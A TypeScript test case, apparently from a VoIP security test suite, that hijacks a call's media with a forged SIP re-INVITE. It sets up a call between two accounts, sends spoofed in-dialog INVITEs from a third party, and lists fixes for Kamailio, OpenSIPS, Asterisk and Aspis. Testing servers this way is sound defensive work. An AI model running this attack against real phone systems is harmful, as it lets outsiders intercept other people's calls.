import { attack } from '../attack.ts'
import { callThrough, hangUp } from '../call.ts'
import { intrude } from '../intruding.ts'
import { sdp } from '../saying.ts'

/** INVITE within a call of others that sends their media to the attacker. */
export const forgedReinvite = attack({
  id: 'forged-reinvite',
  entry: 'E03',
  title: "takes the media of somebody else's call with a forged re-INVITE",
  threats: ['spoofed-in-dialog-request'],
  clause: '§3.1, hijacking; Table 1, row 4',
  references: ['RFC 3261 §14.1', 'RFC 3261 §12.2.1.1'],
  severity: 'critical',
  isIntrusive: false,
  maxMessages: 60,
  needs: ['two-accounts'],
  expected: 'A re-INVITE of somebody who is no part of the call reaches neither side.',
  mending: {
    aspis:
      'On by default: requests within dialogs need the proof of their dialog and its source, or credentials.',
    kamailio:
      'Challenge within dialogs too: `if (has_totag() && is_method("INVITE|UPDATE") && !proxy_authorize(…)) proxy_challenge(…)` before `loose_route()`.',
    opensips:
      'Call `proxy_authorize()` for INVITE and UPDATE with a To tag, and `validate_dialog()`, before `loose_route()`.',
    asterisk: 'PJSIP matches dialogs by tags: use TLS, and SRTP so that moved media cannot be heard.',
  },
  async run(trial) {
    const [alice, bob] = [await trial.registered(0), await trial.registered(1)]
    const attacker = await trial.stranger()
    const calling = await callThrough(alice, bob)
    if ('problem' in calling) return trial.inconclusive(calling.problem)
    const body = sdp(attacker.line.local.ip, 46_000)
    const more = { method: 'INVITE', contact: attacker.contact, body }
    const { tried, reached, answers } = await intrude(calling.call, attacker, trial.silenceMs, more)
    const counts = { tried, reached: reached.length }
    if (reached.length > 0)
      return trial.succeeded(
        `${reached.length} of ${tried} forged re-INVITEs reached a party of the call, with the address of the attacker for its media`,
        counts,
      )
    if (!(await hangUp(calling.call))) return trial.inconclusive('the call did not go on afterwards', counts)
    return trial.resisted(
      `none of ${tried} forged re-INVITEs reached a party (${answers.join(', ')})`,
      counts,
    )
  },
})
